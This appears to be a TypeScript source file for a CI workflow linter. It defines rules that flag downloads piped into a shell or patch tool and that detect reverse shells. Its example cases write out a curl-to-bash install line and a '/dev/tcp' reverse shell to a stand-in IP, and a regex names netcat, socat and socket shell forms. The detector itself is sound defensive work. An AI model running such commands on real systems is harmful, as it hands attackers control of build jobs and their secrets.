// A script of the network that a job runs without having looked at it, and shells that are handed out.

import { programWords } from '../../program-words.js';
import { type AuditProblem, audit } from '../../rule.js';
import { type Invocation, invocationsIn, scriptOf } from '../../script.js';
import { controls, risks } from '../controls.js';
import { stepsExample } from '../example.js';

const shells: ReadonlySet<string> = new Set(['sh', 'bash', 'zsh', 'dash', 'python', 'python3', 'node', 'perl', 'ruby', 'php']);

export const remoteScriptExecution = audit({
  id: 'remote-script-execution',
  aliases: ['unverified_script_exec', 'unverified-script-exec'],
  severity: 'medium',
  confidence: 'high',
  title: 'A download goes straight into a shell',
  why: 'Whoever controls the address, or the way to it, runs commands in this job with its token and secrets.',
  remedy: 'Download a released version, hold it against a digest that is written here, and run it then.',
  controls: controls.supplyChain,
  risks: risks.dependencies,
  references: ['https://owasp.org/www-project-top-10-ci-cd-security-risks/CICD-SEC-03-Dependency-Chain-Abuse'],
  on: ['script-step'],
  *check(step, context): Generator<AuditProblem> {
    const script = scriptOf(step, context);
    if (
      script === undefined ||
      step.run === undefined ||
      !/\b(?:curl|wget|iwr|Invoke-WebRequest|irm|DownloadString)\b/i.test(step.run.text)
    )
      return;
    for (const { name, args, command } of invocationsIn(script)) {
      const fed = command.feeders.some((node) => node.kind === 'simple' && /^(?:curl|wget)$/.test(node.words[0]?.literal ?? ''));
      const given =
        /^(?:bash|sh|zsh|source|\.|eval)$/.test(name) &&
        command.node.words.some(({ text }) => /(?:<\(|\$\()\s{0,5}(?:sudo\s{1,5})?(?:curl|wget)\b/.test(text));
      // A file that is named is run, and what is piped in is its input.
      const reads = args.every((arg) => arg.startsWith('-')) || args.includes('-s') || args.includes('-');
      const { node } = command;
      if (fed && isPatch(name, args) && !namesCommit(step.run.text, command))
        yield { at: script.place(node), statement: step.map.at, message: `\`${name}\` changes the code by whatever the download brings` };
      if (!(fed && shells.has(name) && reads) && !given) continue;
      // What an address with a commit's id brings is as fixed as an action that is pinned to one.
      if (fed && !given && namesCommit(step.run.text, command)) continue;
      yield { at: script.place(node), statement: step.map.at, message: `\`${name}\` runs whatever the download brings` };
    }
  },
  examples: {
    bad: [
      stepsExample('- run: curl -fsSL https://example.com/install.sh | bash'),
      stepsExample('- run: |\n    curl -fsSL https://example.com/fix.patch | git apply\n    make test'),
    ],
    good: [
      stepsExample('- run: make test'),
      stepsExample(`- run: curl -fsSL https://github.com/o/r/commit/${'ab12'.repeat(10)}.patch | git apply`),
      stepsExample(`- run: curl -fsSL https://raw.githubusercontent.com/o/r/${'ab12'.repeat(10)}/install.sh | sh -s -- -b bin`),
    ],
  },
});

/** Whether a program changes files by the patch that it is fed. */
function isPatch(name: string, args: readonly string[]): boolean {
  const [verb] = programWords(name, args);
  return (name === 'git' && (verb === 'apply' || verb === 'am')) || (name === 'patch' && !args.includes('-i'));
}

/** Addresses of hosts that answer with the files of a commit, by its id. */
const commitAddress =
  /^https:\/\/(?:raw\.githubusercontent\.com\/[^/]+\/[^/]+\/ID\/|gist\.githubusercontent\.com\/[^/]+\/[^/]+\/raw\/ID(?:\/|$)|github\.com\/[^/]+\/[^/]+\/(?:raw|commit)\/ID[/.]|gitlab\.com\/[^?#]+\/-\/(?:raw|commit)\/ID[/.]|cdn\.jsdelivr\.net\/gh\/[^/@]+\/[^/@]+@ID\/)/;

/** Whether all that is fetched has the id of a commit in its address, so that nobody can put another in its place. */
function namesCommit(text: string, { feeders }: Invocation['command']): boolean {
  return feeders.every((node) => {
    if (node.kind !== 'simple' || !/^(?:curl|wget)$/.test(node.words[0]?.literal ?? '')) return true;
    // Whoever is not asked for a certificate answers with anything, and a file of settings may name more addresses.
    const words = node.words.slice(1).map(({ start, end }) => text.slice(start, end).replace(/^["']|["']$/g, ''));
    if (words.some((word) => /^(?:-[a-zA-Z]*[kK]|--insecure|--no-check-certificate|--config|-i|--input-file)/.test(word))) return false;
    const addresses = words.filter((word) => !word.startsWith('-') && /:\/\/|\$|^[\w-]+(?:\.[\w-]+)+\//.test(word));
    return addresses.length > 0 && addresses.every(isOfCommit);
  });
}

function isOfCommit(address: string): boolean {
  return commitAddress.test(address.slice(0, 1000).replace(/\b[0-9a-f]{40}\b/, 'ID')) && !/\/\.\.?(?:\/|$)|%2e|[{}[\]]/i.test(address);
}

/** Facts: the forms that such commands have in public incidents and in guides for penetration tests. */
const reverse =
  /\/dev\/(?:tcp|udp)\/|\bnc(?:at)?\s(?:[^\n|;]{0,80}\s)?-[a-z]*[ec]\s|\bsocat\b[^\n|;]{0,120}\bexec:|\bmkfifo\b[^\n]{0,160}\bnc(?:at)?\b|socket\.socket[\s\S]{0,200}(?:subprocess|pty\.spawn|os\.dup2)|TCPSocket\.(?:open|new)[\s\S]{0,120}exec|fsockopen\([\s\S]{0,120}exec\(|New-Object\s{1,5}System\.Net\.Sockets\.TCPClient/i;

export const reverseShell = audit({
  id: 'reverse-shell',
  aliases: ['reverse-shell-detection'],
  severity: 'critical',
  confidence: 'medium',
  title: 'A script hands a shell to another host',
  why: 'Whoever sits at the other end runs commands in this job, with its token and secrets.',
  remedy: 'Take it out; if nobody of the team wrote it, treat every secret of the job as known and every build since as altered.',
  controls: controls.supplyChain,
  risks: risks.poisoned,
  references: ['https://attack.mitre.org/techniques/T1059/'],
  on: ['script-step'],
  *check(step, context): Generator<AuditProblem> {
    const { run } = step;
    const match = run === undefined ? null : reverse.exec(run.text);
    if (run === undefined || match === null || !isShell(run.text, match)) return;
    yield {
      at: context.placeIn(run, match.index, match.index + match[0].length),
      statement: step.map.at,
      message: 'The script connects a shell to another host',
    };
  },
  examples: {
    bad: [stepsExample('- run: bash -i >& /dev/tcp/198.51.100.7/4444 0>&1')],
    good: [stepsExample('- run: timeout 5 bash -c "</dev/tcp/localhost/5432"')],
  },
});

/** `/dev/tcp` alone asks whether a port is open; a shell is handed out when it reads and writes there. */
function isShell(text: string, match: RegExpExecArray): boolean {
  if (!match[0].startsWith('/dev/')) return true;
  const around = text.slice(Math.max(0, match.index - 120), match.index + 160);
  const handedOut = /(?:bash|sh)\s{1,5}-i\b|0>&1|0<&\d/.test(around);
  // A service of the job itself is asked whether it listens.
  if (!handedOut && /^\/dev\/\w{3}\/(?:localhost|127\.\d{1,3}\.\d{1,3}\.\d{1,3}|::1)\//i.test(text.slice(match.index, match.index + 40)))
    return false;
  return (
    /(?:bash|sh)\s{1,5}-i\b|0>&1|0<&\d|exec\s{1,5}\d{1,3}<>|>&\s{0,3}\/dev\/(?:tcp|udp)/.test(around) &&
    /\b(?:ba|z|da|k)?sh\b|exec/.test(around)
  );
}
